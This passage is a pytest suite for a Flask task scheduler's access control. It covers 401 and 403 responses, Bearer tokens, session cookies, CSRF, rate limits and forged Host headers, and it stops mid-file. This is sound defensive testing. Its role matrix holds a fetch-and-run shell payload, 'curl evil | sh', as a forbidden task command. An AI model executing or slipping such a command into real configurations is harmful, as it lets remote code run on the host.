"""Who gets in and what they may do, as a user or an attacker observes it through the
Flask test client: 401 without (or with bad) credentials and nothing learned, 403 for a
role that may not, Bearer tokens (hashed, revocable), the session cookie with its CSRF
token, sign-in (errors, rate limit, open redirects), security headers, 413, the audit
log, and the Socket.IO handshake and room rules."""
from __future__ import annotations

import base64
import hashlib
import re
import time
import uuid
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
import socketio as python_socketio

from tests.conftest import ADMIN_FOR_UNIT_TESTS as ADMIN
from tests.conftest import basic_auth

VIEWER = ("vera", "viewer-password-1")
OPERATOR = ("otto", "operator-password-1")
ACCOUNTS = {"admin": ADMIN, "operator": OPERATOR, "viewer": VIEWER}
# What a stranger must never see in any answer.
SECRET_NAME = "secret-nightly-scan"
SECRET_COMMAND = "echo s3cr3t-payload-7f3a"
SECRET_DESCRIPTION = "internal host list: db1.corp"
SECRETS = (SECRET_NAME, SECRET_COMMAND, SECRET_DESCRIPTION, VIEWER[0], OPERATOR[0])

META_CSRF = re.compile(r'<meta name="csrf-token" content="([^"]*)">')
FORM_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


# --- app, users, clients ----------------------------------------------------------------

def build_app(tmp_path: Path, redis_url: str, **overrides):
    """Like the root ``app`` fixture, with the sign-in limiter's store on the private
    Redis too (the root fixture leaves it on the environment's REDIS_URL)."""
    from webapp import create_app
    from webapp.access import users
    from webapp.core.extensions import db

    config = {
        "TESTING": True,
        "LOGIN_RATE_LIMIT": "1000 per minute",
        "LOGIN_USER_RATE_LIMIT": "1000 per minute",
        "PASSWORD_HASH_METHOD": "pbkdf2:sha256:1000",
        "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'auth.db'}",
        "REDIS_URL": redis_url,
        "RATELIMIT_STORAGE_URI": redis_url,
        "ASYNC_MODE": "threading",
        "SECRET_KEY": "unit-test-secret",
        "CREDENTIAL_NOTICES": False,  # the tests drive the sweep (see tests/conftest.py)
    }
    config.update(overrides)
    app = create_app(config)
    with app.app_context():
        db.create_all()
        for role, (name, password) in ACCOUNTS.items():
            users.create_user(name, role, password)
    return app


@pytest.fixture
def app(tmp_path, redis_server):
    """Overrides the root ``app``: admin, operator ``otto`` and viewer ``vera``."""
    from webapp.core.extensions import db

    app = build_app(tmp_path, redis_server.url)
    yield app
    with app.app_context():
        db.engine.dispose()


def address() -> str:
    """A remote address of its own, so failed sign-ins of one test never count in another."""
    n = uuid.uuid4().int
    return f"10.{n % 250}.{(n >> 8) % 250}.{(n >> 16) % 250 + 1}"


def anonymous(app):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address()
    return client


def as_role(app, role: str):
    """A script's client: HTTP Basic as the user with this role."""
    client = anonymous(app)
    client.environ_base["HTTP_AUTHORIZATION"] = basic_auth(*ACCOUNTS[role])
    return client


@pytest.fixture
def client(app):
    """Overrides the root ``client``: the admin over Basic, from an address of its own."""
    return as_role(app, "admin")


def form_csrf(client, path: str = "/login") -> str:
    html = client.get(path).get_data(as_text=True)
    return FORM_CSRF.search(html).group(1)


def meta_csrf(client, path: str = "/scheduler") -> str:
    response = client.get(path)
    assert response.status_code == 200, response.status_code
    return META_CSRF.search(response.get_data(as_text=True)).group(1)


def login(client, username: str, password: str, next_url: str | None = None):
    """Send the sign-in form as a browser would (CSRF token from the form)."""
    token = form_csrf(client)
    target = "/login" + (f"?next={quote(next_url, safe='')}" if next_url is not None else "")
    return client.post(target, data={"csrf_token": token, "username": username, "password": password})


def signed_in(app, role: str):
    """A browser's client signed in with the form; returns (client, page CSRF token)."""
    client = anonymous(app)
    response = login(client, *ACCOUNTS[role])
    assert response.status_code == 302, response.get_data(as_text=True)
    return client, meta_csrf(client)


def session_cookie(client) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def counts(app) -> dict[str, int]:
    """Rows per table: 'nothing stored' means these do not move."""
    from sqlalchemy import func, select

    from webapp.core.extensions import db
    from webapp.core.models import ApiToken, AuditEntry, Event, Task, TaskRun, User

    with app.app_context():
        return {m.__tablename__: db.session.execute(select(func.count()).select_from(m)).scalar()
                for m in (Task, TaskRun, Event, User, ApiToken, AuditEntry)}


def task_state(app, task_id: int) -> dict | None:
    from webapp.core.extensions import db
    from webapp.core.models import Task

    with app.app_context():
        task = db.session.get(Task, task_id)
        return None if task is None else task.to_dict()


def assert_json_error(response, status: int, code: str) -> dict:
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:300])
    assert response.is_json, response.get_data(as_text=True)[:300]
    body = response.get_json()
    assert set(body) == {"error"}, body
    assert body["error"]["code"] == code, body
    assert isinstance(body["error"]["message"], str) and body["error"]["message"]
    return body["error"]


@pytest.fixture
def world(app, client):
    """One task (with secrets in it) and one finished run of it, stored directly."""
    from webapp.core.extensions import db
    from webapp.core.models import Task
    from webapp.runs.state import open_run, update_task_status

    response = client.post("/api/tasks", json={
        "name": SECRET_NAME, "kind": "shell", "config": {"command": SECRET_COMMAND},
        "description": SECRET_DESCRIPTION,
    })
    assert response.status_code == 201, response.get_data(as_text=True)
    task_id = response.get_json()["id"]
    with app.app_context():
        run, _ = open_run(db.session.get(Task, task_id), "manual")
        db.session.commit()
        run_id = run.id
        update_task_status(run_id, "running")
        update_task_status(run_id, "success")
    return {"task_id": task_id, "run_id": run_id}


def set_active(app, username: str, active: bool) -> None:
    from webapp.access.users import get_user
    from webapp.core.extensions import db

    with app.app_context():
        get_user(username).active = active
        db.session.commit()


def issue_token(app, username: str) -> str:
    from webapp.access import users

    with app.app_context():
        return users.issue_token(username, "test")


def revoke_tokens(app, username: str) -> int:
    from webapp.access import users

    with app.app_context():
        return users.revoke_tokens(username)


# --- 401: no credentials, bad credentials ---------------------------------------------

TASK_BODY = {"name": "intruder", "kind": "shell", "config": {"command": "id"}}


def api_calls(app, task_id: int, run_id: int) -> list[tuple[str, str]]:
    """Every (method, path) the API routes, with real ids filled in."""
    calls = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/api/"):
            continue
        path = re.sub(r"<(?:int|id)[^:>]*:task_id>", str(task_id), rule.rule)
        path = re.sub(r"<(?:int|id)[^:>]*:run_id>", str(run_id), path)
        path = re.sub(r"<(?:int|id)[^:>]*:channel_id>", "1", path)  # no such channel: the auth comes first
        path = re.sub(r"<string:name>", "DB_PASSWORD", path)  # no such secret: the auth comes first
        assert "<" not in path, f"new route argument in {rule.rule}: teach api_calls about it"
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            calls.append((method, path))
    return calls


def test_the_route_walk_covers_the_documented_api(app, world):
    calls = set(api_calls(app, world["task_id"], world["run_id"]))
    t, r = world["task_id"], world["run_id"]
    assert {
        ("GET", "/api/tasks"), ("POST", "/api/tasks"), ("GET", f"/api/tasks/{t}"),
        ("PATCH", f"/api/tasks/{t}"), ("DELETE", f"/api/tasks/{t}"), ("POST", f"/api/tasks/{t}/run"),
        ("GET", f"/api/tasks/{t}/runs"), ("GET", f"/api/runs/{r}"), ("GET", "/api/events"),
        ("GET", "/api/schedule/preview"), ("GET", "/api/users"), ("POST", "/api/users"),
        ("GET", "/api/audit"), ("GET", "/api/channels"), ("POST", "/api/channels"),
        ("PATCH", "/api/channels/1"), ("DELETE", "/api/channels/1"), ("POST", "/api/channels/1/test"),
        ("GET", "/api/notifications"), ("GET", "/api/secrets"), ("PUT", "/api/secrets/DB_PASSWORD"),
        ("DELETE", "/api/secrets/DB_PASSWORD"),
    } <= calls


BAD_CREDENTIALS = [
    "none", "wrong-password", "unknown-user", "empty-basic", "malformed-basic", "basic-no-colon",
    "basic-not-utf8", "bad-bearer", "empty-bearer", "revoked-bearer", "bearer-is-stored-digest",
    "inactive-user-basic", "inactive-user-bearer", "unknown-scheme", "lowercase-scheme-wrong",
]


def bad_authorization(app, kind: str) -> str | None:
    """An Authorization header (or None) of the given bad kind."""
    b64 = lambda raw: base64.b64encode(raw).decode()
    if kind == "none":
        return None
    if kind == "wrong-password":
        return basic_auth(ADMIN[0], ADMIN[1] + "x")
    if kind == "unknown-user":
        return basic_auth("nobody", ADMIN[1])
    if kind == "empty-basic":
        return "Basic "
    if kind == "malformed-basic":
        return "Basic !!!not-base64!!!"
    if kind == "basic-no-colon":
        return "Basic " + b64(ADMIN[0].encode())
    if kind == "basic-not-utf8":
        return "Basic " + b64(b"\xff\xfe:\xff")
    if kind == "bad-bearer":
        return "Bearer tp_" + "A" * 43
    if kind == "empty-bearer":
        return "Bearer "
    if kind == "revoked-bearer":
        token = issue_token(app, ADMIN[0])
        revoke_tokens(app, ADMIN[0])
        return f"Bearer {token}"
    if kind == "bearer-is-stored-digest":
        # Someone who read the database has only the digest: it is not a token.
        token = issue_token(app, ADMIN[0])
        return f"Bearer {hashlib.sha256(token.encode()).hexdigest()}"
    if kind == "inactive-user-basic":
        set_active(app, VIEWER[0], False)
        return basic_auth(*VIEWER)
    if kind == "inactive-user-bearer":
        token = issue_token(app, VIEWER[0])
        set_active(app, VIEWER[0], False)
        return f"Bearer {token}"
    if kind == "unknown-scheme":
        return f'Digest username="{ADMIN[0]}"'
    if kind == "lowercase-scheme-wrong":
        return basic_auth("admin", "wrong").replace("Basic", "basic")
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", BAD_CREDENTIALS)
def test_every_api_route_answers_401_json_and_leaks_nothing(app, world, kind):
    header = bad_authorization(app, kind)
    before = counts(app)
    task_before = task_state(app, world["task_id"])
    stranger = anonymous(app)
    if header is not None:
        stranger.environ_base["HTTP_AUTHORIZATION"] = header
    for method, path in api_calls(app, world["task_id"], world["run_id"]):
        query = "?cron=0+2+*+*+*" if path.endswith("/preview") else ""
        body = None if method == "GET" else dict(TASK_BODY, username="intruder", password="x" * 12, enabled=False)
        response = stranger.open(path + query, method=method, json=body)
        error = assert_json_error(response, 401, "unauthorized")
        assert set(error) == {"code", "message"}, (method, path, error)
        text = response.get_data(as_text=True)
        assert not any(secret in text for secret in SECRETS), (method, path, text)
        # A Bearer challenge: a browser must not pop up its own password dialog.
        assert response.headers.get("WWW-Authenticate", "").startswith("Bearer"), (method, path)
    assert counts(app) == before
    assert task_state(app, world["task_id"]) == task_before


def test_401_is_the_same_for_a_task_that_exists_and_one_that_does_not(app, world):
    stranger = anonymous(app)
    present = stranger.get(f"/api/tasks/{world['task_id']}")
    absent = stranger.get(f"/api/tasks/{world['task_id'] + 1000}")
    assert present.status_code == absent.status_code == 401
    assert present.get_json() == absent.get_json()
    assert stranger.delete(f"/api/tasks/{world['task_id']}").get_json() == \
        stranger.delete(f"/api/tasks/{world['task_id'] + 1000}").get_json()


@pytest.mark.parametrize("kind", ["none", "wrong-password", "bad-bearer", "malformed-basic"])
def test_healthz_tells_strangers_only_ok(app, kind):
    stranger = anonymous(app)
    header = bad_authorization(app, kind)
    if header is not None:
        stranger.environ_base["HTTP_AUTHORIZATION"] = header
    response = stranger.get("/healthz")
    assert response.status_code == 200
    assert response.get_json() == {"ok": True}


def test_readyz_tells_a_signed_in_caller_the_parts(client):
    # Issue 15: /healthz is liveness only; the parts moved to /readyz, with the reasons
    # for a signed-in caller (this unit app has no worker and no scheduler).
    assert client.get("/healthz").get_json() == {"ok": True}
    checks = client.get("/readyz").get_json()["checks"]
    assert checks == {"database": "ok", "redis": "ok", "workers": "no rq worker is registered",
                      "scheduler": "no scheduler holds the leader lock"}


@pytest.mark.parametrize("path", ["/scheduler", "/audit", "/scheduler?x=1"])
def test_pages_send_strangers_to_the_sign_in_form(app, world, path):
    response = anonymous(app).get(path)
    assert response.status_code == 302
    location = urlsplit(response.headers["Location"])
    assert location.path == "/login" and not location.netloc
    assert not any(secret in response.get_data(as_text=True) for secret in SECRETS)


def test_sign_in_page_shows_no_data(app, world):
    html = anonymous(app).get("/login").get_data(as_text=True)
    assert not any(secret in html for secret in SECRETS)
    assert 'data-testid="whoami"' not in html


def test_redirect_to_sign_in_ignores_a_forged_host_header(app):
    response = anonymous(app).get("/scheduler", headers={"Host": "evil.example"})
    assert response.status_code == 302
    assert "evil.example" not in response.headers["Location"]


# --- 403: roles -------------------------------------------------------------------------

def _new_user_body():
    return {"username": f"u{uuid.uuid4().hex[:8]}", "role": "viewer", "password": "long-enough-pw"}


# (role, method, path template, body, status)
ROLE_CASES = [
    ("viewer", "GET", "/api/tasks", None, 200),
    ("viewer", "GET", "/api/tasks/{t}", None, 200),
    ("viewer", "GET", "/api/tasks/{t}/runs", None, 200),
    ("viewer", "GET", "/api/runs/{r}", None, 200),
    ("viewer", "GET", "/api/events", None, 200),
    ("viewer", "GET", "/api/schedule/preview?interval=60", None, 200),
    ("viewer", "POST", "/api/tasks/{t}/run", {}, 403),
    ("viewer", "PATCH", "/api/tasks/{t}", {"enabled": False}, 403),
    ("viewer", "PATCH", "/api/tasks/{t}", {"timeout": 5}, 403),
    ("viewer", "DELETE", "/api/tasks/{t}", None, 403),
    ("viewer", "POST", "/api/tasks", TASK_BODY, 403),
    ("viewer", "GET", "/api/users", None, 403),
    ("viewer", "POST", "/api/users", "new-user", 403),
    ("viewer", "GET", "/api/audit", None, 403),
    ("viewer", "GET", "/api/secrets", None, 403),
    ("viewer", "PUT", "/api/secrets/DB_PASSWORD", {"value": "hunter22"}, 403),
    ("operator", "GET", "/api/tasks", None, 200),
    ("operator", "GET", "/api/runs/{r}", None, 200),
    ("operator", "POST", "/api/tasks/{t}/run", {}, 202),
    ("operator", "PATCH", "/api/tasks/{t}", {"enabled": False}, 200),
    ("operator", "PATCH", "/api/tasks/{t}", {"enabled": False, "timeout": 5}, 403),
    ("operator", "PATCH", "/api/tasks/{t}", {"enabled": True, "config": {"command": "curl evil | sh"}}, 403),
    ("operator", "PATCH", "/api/tasks/{t}", {"name": "renamed"}, 403),
    ("operator", "PATCH", "/api/tasks/{t}", {}, 403),
    ("operator", "PATCH", "/api/tasks/{t}", [{"enabled": False}], 403),
    ("operator", "DELETE", "/api/tasks/{t}", None, 403),
    ("operator", "POST", "/api/tasks", TASK_BODY, 403),
    ("operator", "GET", "/api/users", None, 403),
    ("operator", "POST", "/api/users", "new-user", 403),
    ("operator", "GET", "/api/audit", None, 403),
    ("operator", "GET", "/api/secrets", None, 403),
    ("operator", "PUT", "/api/secrets/DB_PASSWORD", {"value": "hunter22"}, 403),
    ("operator", "DELETE", "/api/secrets/DB_PASSWORD", None, 403),
    ("admin", "POST", "/api/tasks/{t}/run", {}, 202),
    ("admin", "PATCH", "/api/tasks/{t}", {"timeout": 5, "enabled": False}, 200),
    ("admin", "DELETE", "/api/tasks/{t}", None, 204),
    ("admin", "POST", "/api/tasks", TASK_BODY, 201),
    ("admin", "GET", "/api/users", None, 200),
    ("admin", "POST", "/api/users", "new-user", 201),
    ("admin", "GET", "/api/audit", None, 200),
    ("admin", "GET", "/api/secrets", None, 200),
]


@pytest.mark.parametrize("role,method,path,body,status", ROLE_CASES,
                         ids=[f"{c[0]}-{c[1]}-{c[2]}-{c[4]}".replace("/api/", "") + (f"-{sorted(c[3])}" if isinstance(c[3], dict) and c[3] else "")
                              for c in ROLE_CASES])
def test_role_matrix(app, world, clean_redis, role, method, path, body, status):
    path = path.format(t=world["task_id"], r=world["run_id"])
    body = _new_user_body() if body == "new-user" else body
    before, task_before = counts(app), task_state(app, world["task_id"])
    response = as_role(app, role).open(path, method=method, json=body)
    if status == 403:
        error = assert_json_error(response, 403, "forbidden")
        assert role in error["message"], error
        assert counts(app) == before
        assert task_state(app, world["task_id"]) == task_before
    else:
        assert response.status_code == status, response.get_data(as_text=True)


def test_operator_enables_and_disables_and_it_sticks(app, world):
    operator = as_role(app, "operator")
    url = f"/api/tasks/{world['task_id']}"
    assert operator.patch(url, json={"enabled": False}).get_json()["enabled"] is False
    assert operator.get(url).get_json()["enabled"] is False
    assert operator.patch(url, json={"enabled": True}).get_json()["enabled"] is True
    assert operator.get(url).get_json()["enabled"] is True


def test_viewer_and_operator_tokens_carry_their_role(app, world, clean_redis):
    viewer = anonymous(app)
    viewer.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {issue_token(app, VIEWER[0])}"
    operator = anonymous(app)
    operator.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {issue_token(app, OPERATOR[0])}"
    run = f"/api/tasks/{world['task_id']}/run"
    assert viewer.get("/api/tasks").status_code == 200
    assert_json_error(viewer.post(run, json={}), 403, "forbidden")
    assert operator.post(run, json={}).status_code == 202
    assert_json_error(operator.delete(f"/api/tasks/{world['task_id']}"), 403, "forbidden")


# --- users API ----------------------------------------------------------------------

def test_admin_creates_a_user_and_sees_the_generated_password_once(app, client):
    response = client.post("/api/users", json={"username": "newbie", "role": "operator"})
    assert response.status_code == 201, response.get_data(as_text=True)
    created = response.get_json()
    password = created["password"]
    assert isinstance(password, str) and len(password) >= 10
    assert created["username"] == "newbie" and created["role"] == "operator"
    # Shown once: the listing has no password and no hash, now or later.
    listing = client.get("/api/users")
    assert listing.status_code == 200
    text = listing.get_data(as_text=True)
    assert password not in text and "pbkdf2" not in text and "scrypt" not in text
    listed = {u["username"]: u for u in listing.get_json()["users"]}
    assert set(listed) == {ADMIN[0], VIEWER[0], OPERATOR[0], "newbie"}
    assert all("password" not in u and "password_hash" not in u for u in listed.values())
    # The generated password works, with the role given.
    newbie = anonymous(app)
    newbie.environ_base["HTTP_AUTHORIZATION"] = basic_auth("newbie", password)
    assert newbie.get("/api/tasks").status_code == 200
    assert_json_error(newbie.get("/api/users"), 403, "forbidden")


def test_a_chosen_password_is_not_echoed(client):
    response = client.post("/api/users", json={"username": "chosen", "role": "viewer",
                                               "password": "my-own-password-123"})
    assert response.status_code == 201
    assert "password" not in response.get_json()
    assert "my-own-password-123" not in response.get_data(as_text=True)


@pytest.mark.parametrize("body,status,field", [
    ({"username": VIEWER[0], "role": "viewer"}, 409, "username"),
    ({"username": "x y", "role": "viewer"}, 400, "username"),
    ({"username": "", "role": "viewer"}, 400, "username"),
    ({"username": "a" * 81, "role": "viewer"}, 400, "username"),
    ({"username": ["admin"], "role": "viewer"}, 400, "username"),
    ({"username": "root2", "role": "root"}, 400, "role"),
    ({"username": "root2", "role": ["admin"]}, 400, "role"),
    ({"username": "short", "role": "viewer", "password": "short"}, 400, "password"),
    ({"username": "numeric", "role": "viewer", "password": 12345678901}, 400, "password"),
], ids=["duplicate", "space", "empty", "too-long", "list-name", "unknown-role", "list-role",
        "short-password", "numeric-password"])
def test_invalid_user_is_refused_and_nothing_stored(app, client, body, status, field):
    before = counts(app)
    response = client.post("/api/users", json=body)
    error = assert_json_error(response, status, "conflict" if status == 409 else "invalid")
    assert error.get("field") == field
    assert counts(app) == before


def test_password_null_still_returns_the_generated_password(client):
    response = client.post("/api/users", json={"username": "nullpw", "role": "viewer", "password": None})
    assert response.status_code == 201
    assert isinstance(response.get_json().get("password"), str)


# --- Bearer tokens ------------------------------------------------------------------

def test_token_works_and_only_its_digest_is_stored(app, world):
    from sqlalchemy import select

    from webapp.core.extensions import db
    from webapp.core.models import ApiToken

    token = issue_token(app, OPERATOR[0])
    script = anonymous(app)
    script.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    assert script.get("/api/tasks").get_json()["tasks"][0]["name"] == SECRET_NAME
    with app.app_context():
        stored = db.session.execute(select(ApiToken.token_hash)).scalars().all()
        db.engine.dispose()
    assert stored == [hashlib.sha256(token.encode()).hexdigest()]
    database = Path(app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")).read_bytes()
    assert token.encode() not in database
    assert token.removeprefix("tp_").encode() not in database


def test_revoked_token_is_refused_and_others_keep_working(app):
    revoked, other = issue_token(app, OPERATOR[0]), issue_token(app, VIEWER[0])
    assert revoke_tokens(app, OPERATOR[0]) == 1
    script = anonymous(app)
    script.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {revoked}"
    error = assert_json_error(script.get("/api/tasks"), 401, "unauthorized")
    assert "revoked" in error["message"]
    script.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {other}"
    assert script.get("/api/tasks").status_code == 200
    fresh = issue_token(app, OPERATOR[0])
    script.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {fresh}"
    assert script.get("/api/tasks").status_code == 200


def test_token_requests_need_no_csrf_token(app, world, clean_redis):
    script = anonymous(app)
    script.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {issue_token(app, OPERATOR[0])}"
    assert script.post(f"/api/tasks/{world['task_id']}/run", json={}).status_code == 202


# --- session cookie and CSRF --------------------------------------------------------

def test_session_cookie_is_httponly_and_samesite_lax(app):
    browser = anonymous(app)
    response = login(browser, *ADMIN)
    assert response.status_code == 302
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("session=")]
    assert len(cookies) == 1, response.headers.getlist("Set-Cookie")
    attributes = {part.strip().split("=")[0].lower(): part.strip() for part in cookies[0].split(";")[1:]}
    assert "httponly" in attributes
    assert attributes.get("samesite") == "SameSite=Lax"
    assert "secure" not in attributes  # plain HTTP by default; TLS deployments switch it on


def test_session_cookie_is_secure_when_configured_for_tls(tmp_path, redis_server):
    app = build_app(tmp_path, redis_server.url, SESSION_COOKIE_SECURE=True)
    browser = anonymous(app)
    response = login(browser, *ADMIN)
    cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("session="))
    assert "Secure" in cookie and "HttpOnly" in cookie


def test_session_reads_need_no_csrf_token(app, world):
    browser, _ = signed_in(app, "viewer")
    assert browser.get("/api/tasks").status_code == 200
    assert browser.get(f"/api/tasks/{world['task_id']}").status_code == 200


def _changes(world):
    t = world["task_id"]
    return [
        ("POST", "/api/tasks", TASK_BODY, 201),
        ("PATCH", f"/api/tasks/{t}", {"timeout": 7}, 200),
        ("POST", f"/api/tasks/{t}/run", {}, 202),
        ("POST", "/api/users", {"username": "csrf-made", "role": "admin", "password": "long-enough-pw"}, 201),
        ("DELETE", f"/api/tasks/{t}", None, 204),
    ]


@pytest.mark.parametrize("header", [None, "", "wrong-token", "other-session"],
                         ids=["missing", "empty", "wrong", "another-sessions-token"])
def test_session_changes_without_the_csrf_token_are_403_and_store_nothing(app, world, clean_redis, header):
    browser, _ = signed_in(app, "admin")
    if header == "other-session":
        _, header = signed_in(app, "admin")
    headers = {} if header is None else {"X-CSRFToken": header}
    before, task_before = counts(app), task_state(app, world["task_id"])
    for method, path, body, _ in _changes(world):
        response = browser.open(path, method=method, json=body, headers=headers)
        error = assert_json_error(response, 403, "forbidden")
        assert "CSRF" in error["message"]
    assert counts(app) == before
    assert task_state(app, world["task_id"]) == task_before


def test_session_changes_with_the_pages_csrf_token_work(app, world, clean_redis):
    browser, token = signed_in(app, "admin")
    for method, path, body, status in _changes(world):
        response = browser.open(path, method=method, json=body, headers={"X-CSRFToken": token})
        assert response.status_code == status, (method, path, response.get_data(as_text=True))


def test_a_viewer_with_a_valid_csrf_token_is_still_403(app, world, clean_redis):
    browser, token = signed_in(app, "viewer")
    before = counts(app)
    response = browser.post(f"/api/tasks/{world['task_id']}/run", json={}, headers={"X-CSRFToken": token})
    error = assert_json_error(response, 403, "forbidden")
    assert "operator" in error["message"]
    assert counts(app) == before


def test_logout_needs_post_with_the_csrf_token(app):
    browser, token = signed_in(app, "viewer")
    assert browser.get("/logout").status_code == 405
    assert browser.post("/logout").status_code == 400
    assert browser.post("/logout", data={"csrf_token": "wrong"}).status_code == 400
    assert browser.get("/scheduler").status_code == 200  # still signed in
    response = browser.post("/logout", data={"csrf_token": token})
    assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/login"
    assert urlsplit(browser.get("/scheduler").headers["Location"]).path == "/login"
    assert_json_error(browser.get("/api/tasks"), 401, "unauthorized")


def test_logout_form_on_the_page_carries_the_token(app):
    browser, _ = signed_in(app, "viewer")
    html = browser.get("/scheduler").get_data(as_text=True)
    form = re.search(r'<form[^>]*action="/logout"[^>]*>(.*?)</form>', html, re.DOTALL)
    assert form and 'method="post"' in form.group(0)
    token = FORM_CSRF.search(form.group(1)).group(1)
    assert browser.post("/logout", data={"csrf_token": token}).status_code == 302
    assert browser.get("/scheduler").status_code == 302


def test_a_cookie_copied_before_sign_out_no_longer_works(app):
    browser, token = signed_in(app, "viewer")
    stolen = session_cookie(browser)
    assert browser.post("/logout", data={"csrf_token": token}).status_code == 302
    thief = anonymous(app)
    thief.set_cookie("session", stolen)
    assert thief.get("/api/tasks").status_code == 401


def test_password_change_ends_open_sessions_and_old_basic_credentials(app):
    from webapp.access import users

    browser, _ = signed_in(app, "viewer")
    script = as_role(app, "viewer")
    assert browser.get("/api/tasks").status_code == 200 and script.get("/api/tasks").status_code == 200
    with app.app_context():
        users.set_password(VIEWER[0], "a-brand-new-password")
    assert urlsplit(browser.get("/scheduler").headers["Location"]).path == "/login"
    assert_json_error(browser.get("/api/tasks"), 401, "unauthorized")
    assert_json_error(script.get("/api/tasks"), 401, "unauthorized")
    script.environ_base["HTTP_AUTHORIZATION"] = basic_auth(VIEWER[0], "a-brand-new-password")
    assert script.get("/api/tasks").status_code == 200


def test_an_expired_session_cookie_is_refused_even_when_replayed(app):
    app.config["PERMANENT_SESSION_LIFETIME"] = timedelta(seconds=1)
    browser, _ = signed_in(app, "admin")
    cookie = session_cookie(browser)
    assert browser.get("/api/tasks").status_code == 200
    time.sleep(2.1)
    # Send the old cookie as an attacker would, whatever the cookie's Expires says.
    replay = anonymous(app)
    replay.set_cookie("session", cookie)
    response = replay.get("/scheduler")
    assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/login"
    assert_json_error(replay.get("/api/tasks"), 401, "unauthorized")


def test_a_session_cookie_signed_with_another_key_is_refused(app, tmp_path, redis_server):
    (tmp_path / "other").mkdir()
    other = build_app(tmp_path / "other", redis_server.url, SECRET_KEY="attacker-guess")
    forger, _ = signed_in(other, "admin")  # same user ids, different key
    replay = anonymous(app)
    replay.set_cookie("session", session_cookie(forger))
    assert replay.get("/scheduler").status_code == 302
    assert_json_error(replay.get("/api/tasks"), 401, "unauthorized")


def test_a_tampered_session_cookie_is_refused(app):
    browser, _ = signed_in(app, "viewer")
    cookie = session_cookie(browser)
    payload, _, rest = cookie.partition(".")
    tampered = payload[:-2] + ("AA" if payload[-2:] != "AA" else "BB") + "." + rest
    replay = anonymous(app)
    replay.set_cookie("session", tampered)
    assert_json_error(replay.get("/api/tasks"), 401, "unauthorized")


def test_signing_in_starts_a_fresh_session(app):
    browser = anonymous(app)
    token_before = form_csrf(browser)
    anonymous_cookie = session_cookie(browser)
    assert login(browser, *VIEWER).status_code == 302
    assert meta_csrf(browser) != token_before
    assert session_cookie(browser) != anonymous_cookie
    # The pre-sign-in cookie (which an attacker could have planted) grants nothing.
    planted = anonymous(app)
    planted.set_cookie("session", anonymous_cookie)
    assert_json_error(planted.get("/api/tasks"), 401, "unauthorized")


# --- sign-in form -------------------------------------------------------------------

@pytest.mark.parametrize("username,password", [(ADMIN[0], "wrong password"), ("nobody", ADMIN[1]), ("", "")],
                         ids=["wrong-password", "unknown-user", "empty"])
def test_failed_sign_in_is_401_with_a_form_error_and_no_session(app, username, password):
    browser = anonymous(app)
    response = login(browser, username, password)
    assert response.status_code == 401
    html = response.get_data(as_text=True)
    assert 'data-testid="login-error"' in html and "Wrong user name or password." in html
    assert_json_error(browser.get("/api/tasks"), 401, "unauthorized")
    assert browser.get("/scheduler").status_code == 302


def test_sign_in_without_the_form_token_is_refused(app):
    browser = anonymous(app)
    browser.get("/login")
    response = browser.post("/login", data={"username": ADMIN[0], "password": ADMIN[1]})
    assert response.status_code == 400
    assert browser.get("/scheduler").status_code == 302


def test_failed_sign_in_does_not_echo_the_password(app):
    browser = anonymous(app)
    html = login(browser, ADMIN[0], "hunter2-secret-guess").get_data(as_text=True)
    assert "hunter2-secret-guess" not in html


@pytest.fixture
def limited_app(tmp_path, redis_server):
    from webapp.core.extensions import db

    app = build_app(tmp_path, redis_server.url, LOGIN_RATE_LIMIT="3 per minute")
    yield app
    with app.app_context():
        db.engine.dispose()


def test_sign_in_form_is_rate_limited_per_address(limited_app):
    browser = anonymous(limited_app)
    for _ in range(3):
        assert login(browser, ADMIN[0], "wrong guess").status_code == 401
    response = login(browser, *ADMIN)  # the right password, too late
    assert response.status_code in (401, 429)
    assert "Too many failed sign-ins" in response.get_data(as_text=True)
    assert browser.get("/scheduler").status_code == 302
    # Another address is not blocked.
    assert login(anonymous(limited_app), *ADMIN).status_code == 302


def test_basic_auth_is_rate_limited_per_address_with_429_json(limited_app):
    script = anonymous(limited_app)
    script.environ_base["HTTP_AUTHORIZATION"] = basic_auth(ADMIN[0], "wrong guess")
    for _ in range(3):
        assert_json_error(script.get("/api/tasks"), 401, "unauthorized")
    script.environ_base["HTTP_AUTHORIZATION"] = basic_auth(*ADMIN)
    error = assert_json_error(script.get("/api/tasks"), 429, "rate_limited")
    assert ADMIN[1] not in error["message"]
    other = anonymous(limited_app)
    other.environ_base["HTTP_AUTHORIZATION"] = basic_auth(*ADMIN)
    assert other.get("/api/tasks").status_code == 200


def test_form_and_basic_failures_share_one_budget(limited_app):
    browser = anonymous(limited_app)
    shared = browser.environ_base["REMOTE_ADDR"]
    assert login(browser, ADMIN[0], "guess 1").status_code == 401
    assert login(browser, ADMIN[0], "guess 2").status_code == 401
    script = anonymous(limited_app)
    script.environ_base.update(REMOTE_ADDR=shared, HTTP_AUTHORIZATION=basic_auth(ADMIN[0], "guess 3"))
    assert script.get("/api/tasks").status_code == 401
    script.environ_base["HTTP_AUTHORIZATION"] = basic_auth(*ADMIN)
    assert_json_error(script.get("/api/tasks"), 429, "rate_limited")
    assert login(browser, *ADMIN).status_code in (401, 429)


def _browser_target(location: str) -> str:
    """Where a browser would go for this Location, per the URL standard's quirks
    (backslash is a slash, tabs and newlines are dropped)."""
